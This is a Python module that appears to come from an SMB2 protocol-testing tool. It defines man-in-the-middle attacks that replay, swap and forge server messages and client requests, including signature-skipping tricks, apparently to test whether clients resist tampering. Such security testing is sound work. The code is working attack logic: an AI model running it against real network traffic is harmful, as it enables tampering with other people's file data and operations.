# SPDX-License-Identifier: GPL-2.0-only
"""Attacks that are about more than one message: replayed, swapped, made up."""

import struct

import smb2
from attacks import Attack, attack, pack, put, succeeded, wish_of


def is_data(from_server, pdu):
    return from_server and pdu.command == smb2.READ and succeeded(pdu) and len(pdu.data) > 1000


def with_id(pdu, other):
    """A message under the MessageId of another one."""
    data = bytearray(pdu.data)
    put("Q", data, 24, other.message_id)
    return pack(data)


@attack("replay-response", "read", "READ response: once more, some messages later")
class ReplayResponse(Attack):
    """Where the client waits for another message."""
    old = None

    def act(self, connection, from_server, frame, pdus):
        out = [(from_server, frame)]
        if is_data(from_server, pdus[0]):
            if self.old and not self.done:
                out.insert(0, (True, self.old))
                self.done += 1
            self.old = frame
        return out


@attack("replay-as-other", "read", "READ response: that of another READ with the MessageId mended")
class ReplayAsOther(Attack):
    old = None

    def act(self, connection, from_server, frame, pdus):
        if not is_data(from_server, pdus[0]) or self.done:
            return [(from_server, frame)]
        if self.old is None or len(self.old.data) != len(pdus[0].data):
            self.old = pdus[0]
            return [(from_server, frame)]
        self.done += 1
        return [(True, with_id(self.old, pdus[0]))]


@attack("swap-responses", "pair", "two READ responses: each in the other's place")
class SwapResponses(Attack):
    """The first waits in the attacker's hands for the second."""
    held = None

    def act(self, connection, from_server, frame, pdus):
        if self.done or not is_data(from_server, pdus[0]):
            return [(from_server, frame)]
        if self.held is None:
            self.held = pdus[0]
            return []
        self.done += 1
        return [(True, with_id(self.held, pdus[0])), (True, with_id(pdus[0], self.held))]


@attack("replay-request", "rewrite", "WRITE request: once more, when the file has other data")
class ReplayRequest(Attack):
    old = None
    writes = 0

    def act(self, connection, from_server, frame, pdus):
        out = [(from_server, frame)]
        if pdus[0].command != smb2.WRITE:
            return out
        if not from_server:
            self.old = self.old or frame
        elif succeeded(pdus[0]):
            self.writes += 1
            if self.writes == 2:
                out.append((False, self.old))
                self.done += 1
        return out


@attack("replay-mkdir", "mkdir", "CREATE request of a folder: once more, when it has been removed")
class ReplayMkdir(Attack):
    """For the folder "made"."""
    old = None
    deleting = False

    def act(self, connection, from_server, frame, pdus):
        out = [(from_server, frame)]
        if from_server:
            closed = any(pdu.command == smb2.CLOSE and succeeded(pdu) for pdu in pdus)
            if closed and self.deleting and not self.done:
                out.append((False, self.old))
                self.done += 1
            return out
        for pdu in pdus:
            if pdu.command != smb2.CREATE or wish_of(pdu) != "made":
                continue
            if pdu.get("I", 36) == 2:           # FILE_CREATE
                self.old = self.old or frame
            elif self.old and pdu.get("I", 24) & 0x10000:       # DELETE
                self.deleting = True
        return out


@attack("forge-pending", "read", "a STATUS_PENDING for a READ")
class ForgePending(Attack):
    def act(self, connection, from_server, frame, pdus):
        out = [(from_server, frame)]
        if is_data(from_server, pdus[0]) and not self.done:
            data = bytearray(pdus[0].data[:64])
            put("I", data, 8, smb2.PENDING)
            put("I", data, 16, smb2.FROM_SERVER | smb2.ASYNC)
            put("Q", data, 32, 4711)
            data[48:64] = bytes(16)
            data += struct.pack("<HBBIB", 9, 0, 0, 0, 0)
            out.insert(0, (True, pack(data)))
            self.done += 1
        return out


@attack("forge-pending-data", "read", "READ response: other data under STATUS_PENDING, unsigned")
class ForgePendingData(Attack):
    def act(self, connection, from_server, frame, pdus):
        out = [(from_server, frame)]
        if is_data(from_server, pdus[0]) and not self.done:
            data = bytearray(pdus[0].data)
            put("I", data, 8, smb2.PENDING)
            put("I", data, 16, smb2.FROM_SERVER)
            data[48:64] = bytes(16)
            data[-1] ^= 1
            out.insert(0, (True, pack(data)))
            self.done += 1
        return out


@attack("forge-break", "read", "an oplock break for a file that is not open")
class ForgeBreak(Attack):
    def act(self, connection, from_server, frame, pdus):
        out = [(from_server, frame)]
        if is_data(from_server, pdus[0]) and not self.done:
            data = bytearray(pdus[0].data[:64])
            put("H", data, 12, smb2.OPLOCK_BREAK)
            put("I", data, 16, smb2.FROM_SERVER)
            put("Q", data, 24, smb2.NO_MESSAGE_ID)
            data[32:64] = bytes(32)
            data += struct.pack("<HBBI", 24, 0, 0, 0) + b"\x5a" * 16
            out.insert(0, (True, pack(data)))
            self.done += 1
        return out


@attack("forge-notification-data", "read",
        "READ response: other data, signature skipped by a MessageId of all ones, then the right one")
class ForgeNotificationData(Attack):
    def act(self, connection, from_server, frame, pdus):
        out = [(from_server, frame)]
        if is_data(from_server, pdus[0]) and not self.done:
            data = bytearray(pdus[0].data)
            put("Q", data, 24, smb2.NO_MESSAGE_ID)
            data[-1] ^= 1
            out.insert(0, (True, pack(data)))
            self.done += 1
        return out
